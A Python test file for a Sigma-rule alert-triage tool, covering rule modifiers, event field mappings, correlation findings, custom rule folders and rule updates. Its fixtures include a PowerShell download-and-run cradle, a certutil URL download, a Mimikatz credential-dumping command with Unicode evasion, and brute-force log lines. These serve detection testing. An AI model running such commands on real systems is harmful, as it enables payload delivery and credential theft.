"""Sigma rules as triage's detection layer: pySigma's modifiers matched in process, the field
mappings of each alert shape, the three alerts the issue names, correlation into findings, a
team's own rules (--rules DIR), and kb update sigma against a local server."""

from __future__ import annotations

import base64
import http.server
import io
import json
import threading
import zipfile
from pathlib import Path

from test_workflows_cli import home, one_line_error, run  # noqa: F401 - fixture

from secfm.workflows import triage_alerts
from secfm.workflows.alerts import parse_alerts
from secfm.workflows.sigma_fields import event_view
from secfm.workflows.sigma_rules import compile_docs, read_rule_dir, rules_from_yaml

HERE = Path(__file__).parent / "fixtures" / "sigma"


def triage(alerts, **kw):
    kw.setdefault("use_model", False)
    kw.setdefault("store", False)
    kw.setdefault("technique_source", None)
    return triage_alerts(alerts, **kw)


def fired(ruleset, record) -> list[str]:
    (alert,) = parse_alerts([record])
    return [m.rule.label for m in ruleset.match(event_view(alert))]


# --------------------------------------------------------------------------------------------
# the matcher
# --------------------------------------------------------------------------------------------
MATCHING = {
    "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Image": "C:\\Temp\\EVIL.exe",
    "CommandLine": "powershell /enc " + base64.b64encode(b"x; IEX (New-Object Net.WebClient).DownloadString('h')").decode()
                   + " -nop -w hidden DownloadString",
    "SourceIp": "10.20.3.4", "User": "CORP\\Admin", "ParentImage": "C:\\Windows\\explorer.exe",
    "CurrentDirectory": "C:\\Work\\", "WorkDir": "c:\\work\\", "Count": "12",
}


def test_every_modifier_matches_and_each_one_can_fail():
    ruleset = compile_docs(read_rule_dir(HERE / "modifiers.yml", "custom"))
    assert not ruleset.errors and fired(ruleset, MATCHING) == ["0b9c6e5e-6a0b-4c2e-9d55-2b2f5f6c0a01"]
    for field, value in [("Image", "C:\\Temp\\evil.exe.bak"), ("CommandLine", "powershell -enc AAAA -nop"),  # all, base64offset
                         ("SourceIp", "10.21.0.1"), ("User", "corp\\admin"), ("WorkDir", "d:\\other"), ("Count", "9")]:
        assert fired(ruleset, {**MATCHING, field: value}) == [], field
    assert fired(ruleset, {k: v for k, v in MATCHING.items() if k != "ParentImage"}) == []  # exists
    # the same event in the Event.System / Event.EventData shape of an EVTX export
    nested = {"Event": {"System": {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
                                   "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}},
                        "EventData": {k: v for k, v in MATCHING.items() if k not in ("EventID", "Channel")}}}
    assert fired(ruleset, nested) == ["0b9c6e5e-6a0b-4c2e-9d55-2b2f5f6c0a01"]
    (alert,) = parse_alerts([nested])
    assert event_view(alert).logsource() == "windows/process_creation/sysmon"


def test_windash_and_a_logsource_that_does_not_fit():
    rules = rules_from_yaml("""
title: Fixture - certutil
id: 0b9c6e5e-6a0b-4c2e-9d55-2b2f5f6c0a07
logsource: {product: windows, category: process_creation}
detection:
    selection:
        CommandLine|windash|contains: ' -urlcache '
    condition: selection
level: medium
""")
    event = {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "CommandLine": "certutil /urlcache -f http://x/a a"}
    assert fired(rules, event) and fired(rules, {**event, "CommandLine": "certutil \u2013urlcache -f http://x/a a"})
    assert not fired(rules, {**event, "EventID": 3})  # a network connection is not a process creation
    assert not fired(rules, {"host": "h", "program": "cron", "message": event["CommandLine"]})  # nor a syslog line


def test_hidden_characters_do_not_evade_a_rule():
    plain = {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Image": "C:\\Users\\a\\m.exe",
             "CommandLine": "m.exe privilege::debug sekurlsa::logonpasswords"}
    hidden = {**plain, "CommandLine": "m.exe privi\u200blege::debug sekurl\u0455a::logonpasswords"}  # zero-width, Cyrillic s
    clean, tricked = triage([plain, hidden]).alerts
    assert clean.severity == tricked.severity == "critical"
    assert {h.id for h in clean.signatures} <= {h.id for h in tricked.signatures}  # (plus SigmaHQ's rule for odd Unicode)
    assert "secfm-proc-mimikatz" in {h.id for h in tricked.signatures}
    assert tricked.evidence[0].value == hidden[tricked.evidence[0].field]  # evidence quotes the original


# --------------------------------------------------------------------------------------------
# the three alerts of the issue
# --------------------------------------------------------------------------------------------
def test_the_three_alerts_of_the_issue():
    text = (HERE / "issue_alerts.txt").read_text()
    burst = "".join(f"Nov 30 03:14:{i:02d} bastion01 sshd[{18000 + i}]: Failed password for {'invalid user ' if i % 3 else ''}"
                    f"{['root', 'admin', 'oracle'][i % 3]} from 193.32.162.40 port {40000 + i} ssh2\n" for i in range(50))
    lsass, keys = triage(text).alerts
    assert lsass.format == "windows" and lsass.severity == "high" and "T1003.001" in {t.id for t in lsass.techniques}
    top = next(h for h in lsass.signatures if h.id == "secfm-win-lsass-access-user-writable")
    assert top.level == "high" and set(top.fields) == {"TargetImage", "SourceImage", "GrantedAccess"} and top.falsepositives
    assert any(h.source == "sigmahq" for h in lsass.signatures)  # SigmaHQ's own rules fire too (at lower levels)
    assert keys.format == "auditd" and keys.severity == "high" and "T1098.004" in {t.id for t in keys.techniques}
    assert {"PATH.1.name", "uid"} <= {e.field for e in keys.evidence} and all(e.verified for e in keys.evidence)
    result = triage(burst)
    (finding,) = result.findings
    assert finding.kind == "event_count" and finding.severity in ("medium", "high", "critical") and finding.count == 50
    assert [t.id for t in finding.techniques] == ["T1110.001"] and finding.group["secfm_src_ip"] == "193.32.162.40"
    assert [q.kind for q in result.queue] == ["finding"] and len(result.queue[0].alerts) == 50  # one entry, not fifty
    assert all(a.severity == "low" and a.findings == [0] for a in result.alerts)


def test_grouping_folds_repeats_without_escalating():
    lines = "".join(f"May 12 09:0{i}:00 web02 sudo: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash\n" for i in range(3))
    result = triage(lines)
    (finding,) = result.findings
    assert finding.kind == "grouping" and finding.count == 3 and finding.severity == "low" and finding.group == {"host": "web02", "user": "alice"}
    assert [q.kind for q in result.queue] == ["finding"]


# --------------------------------------------------------------------------------------------
# correlation rules (a team's own)
# --------------------------------------------------------------------------------------------
def test_event_count_value_count_and_temporal_ordered():
    rules = compile_docs(read_rule_dir(HERE / "correlation_rules.yml", "custom"))
    assert not rules.errors and len(rules.correlations) == 3
    fails = [{"time": f"2026-11-30T10:00:{i:02d}Z", "action": "vpn_login_failed", "src": "203.0.113.5", "account": f"u{i % 4}"} for i in range(6)]
    other = [{"time": "2026-11-30T10:00:30Z", "action": "vpn_login_failed", "src": "198.51.100.1", "account": "bob"}]
    late = [{"time": "2026-11-30T10:20:00Z", "action": "vpn_login_ok", "src": "203.0.113.5", "account": "u1"}]
    result = triage(fails + other + late, rules=rules)
    kinds = {f.id: f for f in result.findings}
    assert kinds["fixture-vpn-brute"].count == 6 and kinds["fixture-vpn-brute"].severity == "high"
    assert kinds["fixture-vpn-spray"].count == 4 and [t.id for t in kinds["fixture-vpn-spray"].techniques] == ["T1110.003"]
    assert kinds["fixture-vpn-after"].severity == "critical" and 7 in kinds["fixture-vpn-after"].alerts
    assert result.alerts[7].severity == "critical"  # the login that completes the pattern carries it
    assert 6 not in {i for f in result.findings for i in f.alerts if f.kind != "grouping"}  # another source stays apart
    outside = triage(fails[:3] + [{**late[0], "time": "2026-11-30T11:30:00Z"}], rules=rules)
    assert not [f for f in outside.findings if f.kind != "grouping"]  # 3 failures (3 accounts), a login outside the window


# --------------------------------------------------------------------------------------------
# the command line: --rules DIR, kb update sigma
# --------------------------------------------------------------------------------------------
TEAM_RULE = """title: Team rule - backup tool run outside the maintenance window
id: 7d8a4a7e-1d0e-4f0a-8b59-3c2b1f0f9a11
status: experimental
logsource: {product: windows, category: process_creation}
detection:
    selection:
        Image|endswith: '\\\\acmebackup.exe'
        CommandLine|contains: '--export-all'
    condition: selection
falsepositives: [The quarterly export]
level: critical
tags: [attack.exfiltration, attack.t1567]
"""


def test_triage_rules_dir_adds_a_teams_rule(home, tmp_path):
    rules = tmp_path / "team-rules"
    rules.mkdir()
    (rules / "backup.yml").write_text(TEAM_RULE)
    alerts = tmp_path / "a.jsonl"
    alerts.write_text(json.dumps({"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
                                  "Image": "D:\\Tools\\AcmeBackup.exe", "CommandLine": "acmebackup.exe --export-all \\\\nas\\x"}) + "\n")
    base = json.loads(run("triage", str(alerts), "--no-model", "--no-head", "--no-kb").stdout)
    proc = run("triage", str(alerts), "--no-model", "--no-head", "--no-kb", "--rules", str(rules))
    assert proc.returncode == 0, proc.stderr.decode()
    (alert,) = json.loads(proc.stdout)["alerts"]
    hit = next(h for h in alert["signatures"] if h["rule_id"] == "7d8a4a7e-1d0e-4f0a-8b59-3c2b1f0f9a11")
    assert alert["severity"] == "critical" and hit["source"] == "custom" and hit["falsepositives"] == ["The quarterly export"]
    assert "T1567" in {t["id"] for t in alert["techniques"]} and base["alerts"][0]["severity"] != "critical"
    (rules / "broken.yml").write_text("title: x\nlogsource: {product: windows}\ndetection: {condition: sel}\n")
    stats = run("kb", "sigma-stats", "--rules", str(rules))
    assert stats.returncode == 0 and "1 rules skipped" in stats.stdout.decode()
    one_line_error(run("triage", str(alerts), "--no-model", "--rules", str(tmp_path / "nowhere")), "rules folder not found")
    (rules / "bad.yml").write_text("title: [unclosed\n")
    one_line_error(run("triage", str(alerts), "--no-model", "--rules", str(rules)), "not valid YAML", "line")


class _Archive(http.server.BaseHTTPRequestHandler):
    body = b""

    def do_GET(self):  # noqa: N802 - the stdlib's name
        self.send_response(200)
        self.send_header("Content-Length", str(len(self.body)))
        self.end_headers()
        self.wfile.write(self.body)

    def log_message(self, *args):
        pass


def test_kb_update_sigma_from_a_local_server_and_offline(home, tmp_path):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("sigma-r2027-01-01/rules/windows/process_creation/team_backup.yml", TEAM_RULE.replace("2f0f9a11", "2f0f9a12"))
        zf.writestr("sigma-r2027-01-01/rules/deprecated/old.yml", TEAM_RULE.replace("2f0f9a11", "2f0f9a13"))
        zf.writestr("sigma-r2027-01-01/README.md", "not a rule")
    _Archive.body = buf.getvalue()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Archive)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/sigma_all_rules.zip"
        proc = run("kb", "update", "sigma", "--url", url)
    finally:
        server.shutdown()
    assert proc.returncode == 0, proc.stderr.decode()
    assert "1 rules from 1 files" in proc.stdout.decode()
    stats = json.loads(run("kb", "sigma-stats", "--json").stdout)
    assert stats["by_source"]["sigmahq"] == 1 and stats["sources"][0]["path"].startswith(str(tmp_path))
    proc = run("kb", "update", "sigma", "--url", f"http://127.0.0.1:{server.server_address[1]}/gone.zip", "--timeout", "2")
    one_line_error(proc, "cannot update the Sigma rules", "unreachable", "shipped rule set stays in use")


def test_a_parent_technique_is_refined_by_a_lower_rules_sub_technique():
    from secfm.workflows.schemas import TechniqueRef
    from secfm.workflows.sigma_eval import _covered
    from secfm.workflows.triage import _refine_parents

    ref = lambda tid: TechniqueRef(id=tid, name=tid, source="rule")  # noqa: E731
    asserted, lower = _refine_parents([ref("T1078"), ref("T1110.001")], [ref("T1078.003"), ref("T1087.001"), ref("T1110")])
    assert [t.id for t in asserted] == ["T1078", "T1110.001", "T1078.003"] and [t.id for t in lower] == ["T1087.001", "T1110"]
    assert _covered({"T1134", "T1134.003"}, ["T1134.003"]) and not _covered({"T1134.003"}, ["T1134"])


def test_eval_sigma_scores_a_regression_layout_and_a_benign_file(tmp_path):
    from secfm.workflows.sigma_eval import run_sigma_eval

    lsass = (HERE / "issue_alerts.txt").read_text().splitlines()[0]
    case = tmp_path / "regression" / "rules" / "windows" / "process_access" / "lsass_user_writable"
    case.mkdir(parents=True)
    (case / "info.yml").write_text("rule_metadata:\n  - id: 0ecc53cd-547b-5d1f-96e3-29bb4ec49788\n    title: LSASS read\n")
    (case / "0ecc53cd-547b-5d1f-96e3-29bb4ec49788.json").write_text(json.dumps(json.loads(lsass), indent=2))
    benign = tmp_path / "benign.jsonl"
    benign.write_text(json.dumps({"EventID": 4624, "Channel": "Security", "LogonType": 2, "TargetUserName": "alice"}) + "\n"
                      + lsass + "\n")
    out = tmp_path / "eval-sigma.json"
    run_sigma_eval(tmp_path / "regression", [benign], out, allow_busy=True)
    written = json.loads(out.read_text())
    assert written["regression"]["recall"] == 1.0 and written["regression"]["level_and_tags"] == 1.0
    assert written["benign"]["events"] == 2 and written["benign"]["fp_rate"] == 0.5  # the LSASS read counts against it
    assert written["headline"]["benign_high_or_critical_rate"] == 0.5 and written["provenance"]["command"]
